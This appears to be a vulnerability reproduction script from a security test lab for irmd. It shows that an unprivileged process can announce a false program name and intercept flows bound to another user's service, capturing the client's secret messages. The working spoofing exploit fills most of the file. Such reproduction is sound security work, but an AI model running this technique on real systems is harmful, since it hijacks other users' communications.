"""irmd: a local user takes the flows of a name bound to a program by announcing that program's name.

Program bindings (`irm bind program oping name pong`, every `[name.X] prog=` of configs/demo.toml)
are matched against the program name a process *announces* (ProcAnnounce), which is a claim, not
what the kernel says (/proc/PID/exe). uid 65534 announces "oping" and accepts: flows that root
allocates to "pong" reach it instead of (round-robin with) root's `oping -l`.
"""

from __future__ import annotations

import subprocess
import time

from lab import BIN, irmd, lab, main, nobody_popen, stop, wait_for

ATTACKER = r"""
import json, sys
from flowlib import flow_accept
from flowlib.irm import IrmClient
irm = IrmClient(prog="/nonexistent/oping")      # a claim: this process is python, run by uid 65534
got = 0
print("ready", flush=True)
try:
    while True:
        f = flow_accept(timeout=20, irm=irm)
        got += 1
        data = f.read()
        f.write(b"ATTACKER:" + bytes(data))
        print(json.dumps({"stolen": got, "sdu": data.decode(errors="replace")}), flush=True)
except Exception as e:
    print(json.dumps({"stolen": got, "end": str(e)}), flush=True)
"""

CLIENT = r"""
from flowlib import flow_alloc
answers = []
for i in range(6):
    with flow_alloc("pong", timeout=10) as f:
        f.write(b"secret-%d" % i)
        f.set_timeout(3)
        try:
            answers.append(bytes(f.read()))
        except Exception as e:
            answers.append(repr(e).encode())
print(answers)
"""


def attack() -> bool:
    with lab("progspoof") as d, irmd(d) as ir:
        ir.irm_ok("bind", "program", str(BIN / "oping"), "name", "pong")
        ir.irm_ok("name", "register", "pong", "layer", "local")
        legit = subprocess.Popen(
            [str(BIN / "oping"), "-l"],
            env=ir.env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        thief = nobody_popen(ir, ATTACKER, stdout=subprocess.PIPE)
        try:
            assert thief.stdout is not None
            wait_for(lambda: thief.stdout.readline().startswith("ready"), 30, "the attacker")  # type: ignore[union-attr]
            time.sleep(1.0)  # oping -l up too
            r = subprocess.run([BIN / "python", "-c", CLIENT], env=ir.env, capture_output=True, text=True, timeout=90)
            print("root's client got:", r.stdout.strip() or r.stderr.strip()[-500:])
        finally:
            stop(thief)
            stop(legit)
        out = thief.stdout.read() if thief.stdout else ""
        print("attacker saw:", out.strip())
        return "ATTACKER:" in r.stdout or '"stolen": 1' in out


if __name__ == "__main__":
    main(attack, 180)
